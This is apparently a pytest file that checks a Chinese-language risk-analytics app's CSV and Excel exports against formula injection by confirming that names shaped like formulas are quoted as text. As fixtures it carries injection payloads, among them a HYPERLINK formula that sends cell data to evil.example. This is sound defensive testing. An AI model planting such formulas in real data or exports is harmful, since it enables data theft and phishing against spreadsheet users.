"""Formula neutralisation in every export: a firm, team or account named like a formula reaches the
spreadsheet as text (``'`` in front; openpyxl reads it as a string), numbers stay numbers.

One test per writer: the risk list CSV, the plan, bulletin, 三个一批, places and people workbooks and
the audit CSV (with the name planted by an anonymous failed login)."""

from __future__ import annotations

import csv
import io

import openpyxl
import pandas as pd
import pytest

from analytics.contract import frames
from analytics.contract.exports import neutralise, neutralise_frame, write_csv, write_xlsx

ATTACKS = ('=HYPERLINK("http://evil.example/?x="&A1,"点此")', "+1+1", "@SUM(1)", "-2+3", "\t=1+1", "\r=1+1")


def _cells(workbook: bytes | io.BytesIO | str) -> list[openpyxl.cell.cell.Cell]:
    book = openpyxl.load_workbook(io.BytesIO(workbook) if isinstance(workbook, bytes) else workbook)
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]


def _assert_text_only(workbook, names: tuple[str, ...]) -> None:
    """No cell is a formula, and each of ``names`` is there as ``'`` + name, typed as a string."""
    cells = _cells(workbook)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if c.data_type == "s"}
    for name in names:
        assert "'" + name in texts, name
        assert name not in texts, name


def test_neutralise_prefixes_formula_text_only() -> None:
    for attack in ATTACKS:
        assert neutralise(attack) == "'" + attack
    for harmless in ("城关镇", "-12", "+3.5", "-4.0%", "1e3", "", "'=already"):
        assert neutralise(harmless) == harmless
    for number in (-2, 3.5, None, True):
        assert neutralise(number) is number


def test_frames_keep_numbers_and_dtypes_and_quote_headers() -> None:
    frame = pd.DataFrame({
        "name": [*ATTACKS, "正常企业"], "score": [-0.5, 0.1, 0.2, 0.3, 0.4, 0.5, 0.6],
        "mixed": pd.Series(["=1", 2, None, "x", -3.0, "-7", "@x"], dtype=object),
        "level": pd.Categorical(["=red", "blue", "blue", "blue", "blue", "blue", "blue"]),
        "=team": range(7),
    })
    out = neutralise_frame(frame)
    assert out["name"].tolist() == [*("'" + a for a in ATTACKS), "正常企业"]
    assert out["score"].dtype == "float64" and out["score"].tolist() == frame["score"].tolist()
    assert out["mixed"].tolist()[:2] == ["'=1", 2] and out["mixed"].iloc[4] == -3.0 and out["mixed"].iloc[5] == "-7"
    assert out["mixed"].iloc[6] == "'@x" and out["level"].iloc[0] == "'=red"
    assert list(out.columns)[-1] == "'=team"
    assert frame["name"].iloc[0] == ATTACKS[0]  # the caller's frame is left as it was


def test_write_xlsx_and_csv() -> None:
    frame = pd.DataFrame({"name": list(ATTACKS), "n": range(len(ATTACKS))})
    workbook = write_xlsx(None, {"=sheet": frame})
    _assert_text_only(workbook, ATTACKS[:-1])  # XML reads a carriage return back as a line feed
    assert "'\n=1+1" in {c.value for c in _cells(workbook)}
    numbers = [c for c in _cells(workbook) if c.column == 2 and c.row > 1]
    assert [c.data_type for c in numbers] == ["n"] * len(ATTACKS)
    rows = list(csv.reader(io.StringIO(write_csv(frame, index=False))))
    assert [r[0] for r in rows[1:]] == ["'" + a for a in ATTACKS] and [r[1] for r in rows[1:]] == ["0", "1", "2", "3", "4", "5"]


def test_the_workbook_pass_catches_cells_written_directly() -> None:
    from analytics.contract.exports import neutralise_workbook

    book = openpyxl.Workbook()
    book.active["A1"] = "=HYPERLINK(\"x\")"
    assert book.active["A1"].data_type == "f"
    neutralise_workbook(book)
    assert book.active["A1"].data_type == "s" and book.active["A1"].value == "'=HYPERLINK(\"x\")"


# --- every writer ------------------------------------------------------------------------------


def test_risk_list_csv(tmp_path) -> None:
    from analytics.risk.risklist import write_contract_csv

    risk_list = pd.DataFrame({
        "enterprise_id": ["=HYPERLINK(\"x\")", "E2"], "as_of": "2026-03-01", "score": [0.9, 0.1], "rank": [1, 2],
        "risk_level": ["red", "blue"], "reasons": ["@SUM(1)", "-2+3"], "model_version": "+1+1",
    })
    path = write_contract_csv(risk_list, tmp_path / "list.csv")
    rows = list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
    assert [r["enterprise_id"] for r in rows] == ["'=HYPERLINK(\"x\")", "E2"]
    assert [r["reasons"] for r in rows] == ["'@SUM(1)", "'-2+3"] and rows[0]["model_version"] == "'+1+1"
    assert [r["score"] for r in rows] == ["0.900000", "0.100000"] and [r["rank"] for r in rows] == ["1", "2"]


def test_plan_workbook(tmp_path) -> None:
    from analytics.operations.plan_export import write_plan_xlsx

    tables = {
        "towns": frames.typed("towns", [{"town_id": "T1", "name": "-2+3"}]),
        "enterprises": frames.typed("enterprises", [
            {"enterprise_id": "E1", "name": ATTACKS[0], "town_id": "T1", "sector": "gas"},
            {"enterprise_id": "E2", "name": "@SUM(1)", "town_id": "T1", "sector": "gas"}]),
    }
    visits = pd.DataFrame({
        "date": ["2026-03-02", "2026-03-02"], "team": ["+1+1", "+1+1"], "slot": [1, 2], "enterprise_id": ["E1", "E2"],
        "town_id": "T1", "sector": "gas", "score": [0.8, 0.7], "rank": [1, 2], "reason_zh": "风险排名", "reason_en": "rank",
        "hazard_ids": "",
    })
    path = write_plan_xlsx(visits, tables, tmp_path / "plan.xlsx")
    _assert_text_only(str(path), (ATTACKS[0], "@SUM(1)", "-2+3", "+1+1"))
    scores = [c.value for c in _cells(str(path)) if isinstance(c.value, float)]
    assert scores == [0.8, 0.7]


def test_bulletin_workbook() -> None:
    from analytics.operations.bulletin import group_bulletin

    tables = {
        "towns": frames.typed("towns", [{"town_id": "T1", "name": "@SUM(1)"}]),
        "enterprises": frames.typed("enterprises", [{"enterprise_id": "E1", "name": "x", "town_id": "T1", "sector": "gas"}]),
        "inspections": frames.typed("inspections", [
            {"inspection_id": "I1", "enterprise_id": "E1", "date": "2026-06-02", "team": ATTACKS[0], "mode": "routine"},
            {"inspection_id": "I2", "enterprise_id": "E1", "date": "2026-06-03", "team": "-2+3", "mode": "routine"}]),
        "hazards": frames.typed("hazards", []),
        "penalties": frames.typed("penalties", []),
    }
    bulletin = group_bulletin(tables, pd.Timestamp("2026-06-01"), pd.Timestamp("2026-06-30"))
    _assert_text_only(bulletin.excel_bytes("zh"), (ATTACKS[0], "-2+3", "@SUM(1)"))


def test_dispositions_workbook() -> None:
    from test_dispositions import AS_OF, risk_list, tables

    from analytics.operations.dispositions import excel_bytes, merge_decisions, recommend

    firms = tables()
    firms["enterprises"] = firms["enterprises"].assign(name="=HYPERLINK(\"http://evil\")")
    frame = merge_decisions(recommend(firms, AS_OF, risk_list()), pd.DataFrame(columns=[
        "enterprise_id", "decision", "recommended", "as_of", "decided_by", "decided_at", "note"]))
    assert len(frame)
    _assert_text_only(excel_bytes(frame), ("=HYPERLINK(\"http://evil\")",))


@pytest.mark.parametrize("which", ["places", "people"])
def test_places_and_people_workbooks(tmp_path, which: str) -> None:
    from test_people import tables as people_tables

    from analytics.operations.lists import export_list
    from analytics.risk.risklist import save_risk_list
    from analytics.store.database import open_store
    from analytics.store.writing import write_tables

    tables = people_tables()
    names = {e: ATTACKS[i % 4] for i, e in enumerate(tables["enterprises"]["enterprise_id"].astype(str))}
    tables["enterprises"] = tables["enterprises"].assign(
        name=tables["enterprises"]["enterprise_id"].astype(str).map(names), sector="fire_venues")
    store = open_store(f"sqlite:///{tmp_path / 'store.db'}")
    write_tables(store, tables)
    ids = list(names)
    save_risk_list(store, pd.DataFrame({
        "enterprise_id": ids, "as_of": "2026-06-30", "score": 0.1, "rank": range(1, len(ids) + 1),
        "risk_level": "blue", "reasons": "", "reasons_en": "", "contributions": "{}", "model_version": "t"}))
    report = export_list(store, which, tmp_path / f"{which}.xlsx")
    assert report.rows > 0
    cells = _cells(str(tmp_path / f"{which}.xlsx"))
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if c.data_type == "s"}
    assert not texts & set(ATTACKS)  # no name left as a formula-looking cell
    quoted = {name for name in ATTACKS[:4] if "'" + name in texts}
    assert quoted, texts  # the firms' names are on the list, quoted


def test_audit_csv_with_a_name_planted_by_an_anonymous_failed_login(tmp_path) -> None:
    from analytics.accounts import audit
    from analytics.accounts import users as accounts
    from analytics.contract.errors import UserError
    from analytics.store.database import open_store

    store = open_store(f"sqlite:///{tmp_path / 'store.db'}")
    planted = '=HYPERLINK("http://evil.example","Click")'
    with pytest.raises(UserError):
        accounts.verify_login(store, planted, "whatever", source="10.0.0.9")
    text = audit.export_csv(store, None, {"action": "login_failed"})
    rows = list(csv.reader(io.StringIO(text)))
    cells = [cell for row in rows for cell in row]
    assert "'" + planted in cells and planted not in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@"))]


def test_import_problems_csv_quotes_the_value_that_failed(tmp_path) -> None:
    from test_ingest import base_rows, import_rows

    from analytics.store.database import open_store
    from analytics.store.ingest import ImportFailed

    rows = base_rows()
    rows["enterprises"][0]["sector"] = "=HYPERLINK(\"http://evil\")"
    errors = tmp_path / "errors.csv"
    with pytest.raises(ImportFailed):
        import_rows(open_store(f"sqlite:///{tmp_path / 'store.db'}"), tmp_path, rows, errors_path=errors)
    values = [r["value"] for r in csv.DictReader(io.StringIO(errors.read_text(encoding="utf-8-sig")))]
    assert "'=HYPERLINK(\"http://evil\")" in values and "=HYPERLINK(\"http://evil\")" not in values
